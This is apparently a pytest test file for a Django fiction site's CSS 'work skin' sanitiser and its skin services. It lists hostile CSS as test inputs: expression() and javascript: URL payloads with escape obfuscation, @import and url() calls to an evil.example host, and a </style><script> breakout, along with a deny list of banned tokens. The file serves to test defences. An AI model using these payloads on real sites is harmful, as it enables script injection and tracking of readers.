"""The work-skin CSS sanitiser, and the skin services."""

import pytest
from django.core.exceptions import PermissionDenied, ValidationError

from chapterhouse.works.models import Work
from chapterhouse.works.services import skins as skin_services
from chapterhouse.works.skins import clean_css, sanitize_css

from .factories import WorkFactory

# --- hostile CSS: nothing dangerous survives ------------------------------------

HOSTILE = [
    "p { width: expression(alert(1)); }",
    "p { width: EXPRESSION(alert(1)); }",
    "p { width: \\65 xpression(alert(1)); }",
    "p { background: url(javascript:alert(1)); }",
    "p { background: url('javascript:alert(1)'); }",
    "p { background: url(\\6a avascript:alert(1)); }",
    "p { background-image: url(\"jav\\61script:alert(1)\"); }",
    "p { background: url(  JaVaScRiPt:alert(1)); }",
    "p { background: url(data:image/png;base64,AAAA); }",
    "p { behavior: url(evil.htc); }",
    "p { \\62 ehavior: url(evil.htc); }",
    "p { -moz-binding: url(http://evil.example/x.xml#x); }",
    "@import url(http://evil.example/steal.css);",
    "@import 'http://evil.example/steal.css';",
    "@font-face { font-family: x; src: url(http://evil.example/x.woff); }",
    "p { position: fixed; top: 0; }",
    "p { position: sticky; }",
    "p { position: absolute; }",
    "p { display: block; position: FIXED; }",
    "@namespace svg url(http://www.w3.org/2000/svg);",
    "@keyframes spin { from { color: red } }",
    "p { color: red } </style><script>alert(1)</script>",
    "p { content: \"</style><script>alert(1)</script>\"; }",
    "p { content: \"\\3c /style>\"; }",
    "p { font-family: \"javascript:x\"; }",
    "p { background: url(http://evil.example/x.svg); }",
    "p { background: url(http://evil.example/tracker); }",
    "p { list-style-image: url(ftp://evil.example/x.png); }",
    "p { cursor: url(http://evil.example/x.png), auto; }",
    "p { margin-top: -500px; }",
    "p { background-attachment: fixed; }",
    "p { color: var(--x); }",
]


@pytest.mark.parametrize("css", HOSTILE)
def test_hostile_css_is_dropped(css):
    result = sanitize_css(css)
    lowered = result.lower()
    for bad in ("expression", "javascript", "behavior", "binding", "@import", "@font-face",
                "fixed", "sticky", "absolute", "<", "data:", ".svg", "tracker", "ftp:",
                "-500px", "var(", "@namespace", "@keyframes"):
        assert bad not in lowered, (css, result)


def test_hostile_css_is_reported_to_the_creator():
    result = clean_css("@import url(x.css); p { position: fixed; behavior: url(x.htc) }")
    text = " ".join(result.dropped)
    assert "@import" in text
    assert "position: fixed" in text
    assert "behavior" in text


def test_selector_lists_cannot_escape_the_work():
    css = "p.note, #header a, body, html body .x, ~ p, + div, #workskin ~ div { color: red }"
    result = sanitize_css(css)
    selectors = result.split("{")[0].strip().split(", ")
    assert selectors == ["#workskin p.note", "#workskin #header a", "#workskin",
                         "#workskin .x"]
    for selector in selectors:
        assert selector.startswith("#workskin")


def test_a_closing_brace_in_a_selector_cannot_start_a_new_rule():
    result = sanitize_css("p } body { position: fixed } p { color: red }")
    assert "fixed" not in result
    for line in result.splitlines():
        if line.endswith("{"):
            assert line.startswith("#workskin") or line.startswith("@media")


def test_ordinary_skin_css_is_kept_and_scoped():
    css = """
    /* a text-message style */
    #workskin .text { font-family: "Helvetica Neue", Arial, sans-serif; color: #333;
      background-color: rgba(0, 120, 255, .1); border-radius: 12px; padding: .5em 1em;
      margin: 0 0 1em auto; max-width: 70%; text-align: right; }
    p.note { font-style: italic; border-left: 3px solid #999; }
    .letter::before { content: "Dear "; }
    li:nth-child(2n+1) { background: url("https://images.example.org/paper.png") repeat; }
    body { line-height: 1.7; }
    :root { color: black !important; }
    div.box { display: flex; gap: 1em; float: left; clear: both; position: relative; }
    """
    result = sanitize_css(css)
    assert "#workskin .text {" in result
    assert 'font-family: "Helvetica Neue", Arial, sans-serif;' in result
    assert "background-color: rgba(0, 120, 255, .1);" in result
    assert "margin: 0 0 1em auto;" in result
    assert "#workskin p.note {" in result
    assert "#workskin .letter::before {" in result
    assert 'content: "Dear ";' in result
    assert 'url("https://images.example.org/paper.png")' in result
    assert "#workskin {\n  line-height: 1.7;" in result
    assert "color: black !important;" in result
    assert "display: flex;" in result and "position: relative;" in result
    assert "#workskin #workskin" not in result
    assert clean_css(css).dropped == []


def test_media_queries_keep_safe_rules_only():
    result = sanitize_css(
        "@media (max-width: 40em) { p { font-size: 1.2em; position: fixed } }"
        "@media url(x) { p { color: red } }"
    )
    assert result == "@media (max-width: 40em) {\n#workskin p {\n  font-size: 1.2em;\n}\n}"


def test_empty_or_unreadable_css_gives_nothing():
    assert sanitize_css("") == ""
    assert sanitize_css("   ") == ""
    assert sanitize_css("this is not css at all") == ""


# --- services ---------------------------------------------------------------


def test_skin_create_keeps_raw_and_clean_css(user):
    skin, dropped = skin_services.skin_create(
        user=user, title="Texts", description="Phone messages",
        css="p { color: red; position: fixed }",
    )
    assert skin.css == "p { color: red; position: fixed }"
    assert skin.clean_css == "#workskin p {\n  color: red;\n}"
    assert any("position: fixed" in d for d in dropped)


def test_skin_titles_are_unique_per_owner(user, other_user):
    skin_services.skin_create(user=user, title="Texts", css="")
    with pytest.raises(ValidationError) as error:
        skin_services.skin_create(user=user, title="  texts ", css="")
    assert "already have a skin" in str(error.value)
    skin_services.skin_create(user=other_user, title="Texts", css="")


def test_only_the_owner_may_change_or_delete_a_skin(user, other_user):
    skin, _ = skin_services.skin_create(user=user, title="Texts", css="p { color: red }")
    with pytest.raises(PermissionDenied):
        skin_services.skin_update(user=other_user, skin=skin, title="Mine", css="")
    with pytest.raises(PermissionDenied):
        skin_services.skin_delete(user=other_user, skin=skin)
    skin_services.skin_update(user=user, skin=skin, title="Texts", css="p { color: blue }")
    skin.refresh_from_db()
    assert "blue" in skin.clean_css


def test_deleting_a_skin_leaves_its_works_unstyled(user):
    skin, _ = skin_services.skin_create(user=user, title="Texts", css="p { color: red }")
    work = WorkFactory(creator=user, skin=skin)
    skin_services.skin_delete(user=user, skin=skin)
    assert Work.objects.get(pk=work.pk).skin is None


def test_overlong_css_is_refused_with_its_length(user):
    with pytest.raises(ValidationError) as error:
        skin_services.skin_create(user=user, title="Big", css="p{color:red}" * 5000)
    assert "60,000" in str(error.value)
